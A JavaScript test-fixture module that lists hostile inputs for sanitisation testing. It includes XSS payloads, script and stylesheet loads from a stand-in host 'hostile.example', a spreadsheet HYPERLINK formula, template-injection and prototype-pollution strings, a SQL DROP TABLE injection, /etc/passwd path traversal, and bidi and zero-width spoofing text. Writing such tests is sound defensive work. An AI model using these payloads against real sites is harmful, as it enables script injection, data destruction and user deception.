// Texts that try to run, to load, to break the layout or to mislead who reads them. What runs sets `__hostile` or opens a dialog.

const RUN = "window.__hostile=1";
const AWAY = "http://hostile.example/x";

const SCRIPTS = [
  `<script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<script src="${AWAY}.js"></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<script type="module">${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script>`,
  `]]><script>${RUN}</script>`,
  `<scr<script>ipt>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
];

const HANDLERS = [
  `<img src=x onerror="${RUN}">`,
  `<img src="${AWAY}.png">`,
  `<img srcset="${AWAY}.png 2x">`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src="${AWAY}.mp3" autoplay onerror="${RUN}">`,
  `<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>`,
  `<iframe src="${AWAY}"></iframe>`,
  `<object data="${AWAY}"></object>`,
  `<embed src="${AWAY}">`,
  `<marquee onstart="${RUN}">`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}' x='`,
  `<form action="${AWAY}"><button>Save</button></form>`,
  `<base href="http://hostile.example/">`,
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
];

const LINKS = [
  "javascript:window.__hostile=1",
  "JaVaScRiPt:window.__hostile=1",
  "java\tscript:window.__hostile=1",
  " javascript:window.__hostile=1",
  `<a href="javascript:${RUN}">Invoice</a>`,
  `data:text/html,<script>parent.__hostile=1</script>`,
  `vbscript:msgbox(1)`,
  `[Invoice](javascript:window.__hostile=1)`,
  `![](${AWAY}.png)`,
  `https://shop.example@hostile.example/pay`,
  `//hostile.example/pay`,
  `https://xn--80ak6aa92e.example/`,
];

const DRAWINGS = [
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName="x"></svg>`,
  `<svg><use href="${AWAY}.svg#x"></use></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y="20">Pay</text></a></svg>`,
  `<math><mtext><style><img src=x onerror="${RUN}">`,
  `<style>*{background:url(${AWAY}.png)}</style>`,
  `<style>@import "${AWAY}.css";</style>`,
  `<link rel="stylesheet" href="${AWAY}.css">`,
  `<b style="position:fixed;inset:0;background:red">over all</b>`,
  `red;background:url(${AWAY}.png)`,
  `expression(${RUN})`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `{@html "<img src=x onerror=${RUN}>"}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{% raw %}{{7*7}}{% endraw %}`,
  "${7*7} {{7*7}} <%= 7*7 %>",
  "__proto__",
  "constructor",
  "toString",
  `{"__proto__":{"isHostile":true}}`,
  `=HYPERLINK("${AWAY}","Invoice")`,
  "'; DROP TABLE contacts; --",
  "../../../../etc/passwd",
];

const DIRECTION = [
  "Invoice \u202efdp.exe",
  "\u202eevil\u202c and good",
  "Ana \u2067\u2066abc",
  "\u202b\u202d\u202a open for ever",
  "\u200fשלום\u200f 12345 total",
  "مرحبا 678 (offer)",
  "pay\u200bpal",
  "\u200b\u200b\u200b",
  "\ufeffAdmin",
  "a\u00adb\u2060c\u200dd\u180ee",
  "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349\u035a\u032f\u031e\u0320\u034da\u036b\u0357\u0334\u0362\u0335lgo",
  "family 👨‍👩‍👧‍👦 flag 🏴󠁧󠁢󠁥󠁮󠁧󠁿",
];

const BYTES = ["nul \u0000 here", "lone \ud800 high", "lone \udfff low", "bell \u0007 escape \u001b[31mred", "one\r\ntwo\u2028three\u2029four", "\ufffe\uffff"];

/** All but the long one, whose length depends on what a place takes. */
export const TEXTS = [...SCRIPTS, ...HANDLERS, ...LINKS, ...DRAWINGS, ...TEMPLATES, ...DIRECTION, ...BYTES];

/** Those that stand together with others in one text, of which no place refuses the whole because of one. */
export const SOUND = TEXTS.filter((text) => text.isWellFormed() && !text.includes("\u0000"));

/** A text without a space, as long as a place takes it. */
export const long = (length) => "W".repeat(length);

/** The direction marks that no page may contain as they are. */
export const MARKS = "[\\u061c\\u200b\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069\\ufeff]";
